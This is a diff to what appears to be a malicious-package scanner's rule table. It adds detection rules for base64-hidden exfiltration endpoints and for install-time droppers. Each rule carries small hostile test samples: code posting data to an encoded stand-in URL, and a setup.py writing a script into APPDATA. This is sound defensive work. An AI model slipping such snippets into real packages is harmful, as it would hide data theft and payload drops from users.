@@ -271,6 +271,16 @@ RULES: tuple[Rule, ...] = (
                      "'.abc.oast.fun')\n")),
          valid=(_x("import requests\nDOCS = 'https://webhook.site/'\n"
                    "def ping():\n    return requests.get('https://pypi.org/simple/')\n"),)),
+    Rule("python.network.hidden-endpoint", "exfiltration", H, CH,
+         "a URL hidden in an encoded literal (base64): packages name their endpoints in the "
+         "clear, droppers and stealers hide where they send data or fetch payloads",
+         threats=(3, 12), runtime_drop=0,
+         invalid=(_x("import base64, requests\nHOOK = 'aHR0cHM6Ly9leGFtcGxlLmludmFsaWQvdXBsb2Fk'\n"
+                     "def send(data):\n    requests.post(base64.b64decode(HOOK).decode(), "
+                     "data=data)\n"),),
+         valid=(_x("ICON = 'data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAw"
+                   "MC9zdmciLz4='\n"),
+                _x("NOTE = 'aHR0cHM6Ly9leGFtcGxlLmludmFsaWQvYw== is the docs URL in base64'\n"))),
     Rule("python.network.file-host", "network", M, CM,
          "a paste or anonymous file host (pastebin raw, transfer.sh, Discord attachments) "
          "used to stage payloads", threats=(5,),
@@ -339,6 +349,15 @@ RULES: tuple[Rule, ...] = (
                      "os.chmod('/tmp/m', 0o755)\nsubprocess.Popen(['/tmp/m'])\n"),),
          valid=(_x("import urllib.request\ndef fetch(u, p):\n"
                    "    urllib.request.urlretrieve(u, p)\n"),)),
+    Rule("python.dropper.program-write", "dropper", L, CM,
+         "a program or script (.exe, .js, .bat, .ps1...) is written into the user's profile "
+         "or a temp folder; at install time that is a dropper",
+         by_context={INSTALL: (H, CM), STARTUP: (H, CM)}, threats=(4, 5),
+         invalid=(_x("import os\nfrom setuptools import setup\nbase = os.getenv('APPDATA')\n"
+                     "with open(base + '\\\\Ext\\\\background.js', 'w') as f:\n"
+                     "    f.write('/* defanged */')\nsetup(name='x')\n", "setup.py"),),
+         valid=(_x("from setuptools import setup\nwith open('build/gen/version.js', 'w') as f:\n"
+                   "    f.write('export const v = 1')\nsetup(name='x')\n", "setup.py"),)),
     Rule("python.dropper.chmod-exec", "process", L, CM, "a file is made executable",
          threats=(5,),
          invalid=(_x("import os\nos.chmod('/tmp/agent', 0o755)\n"),),
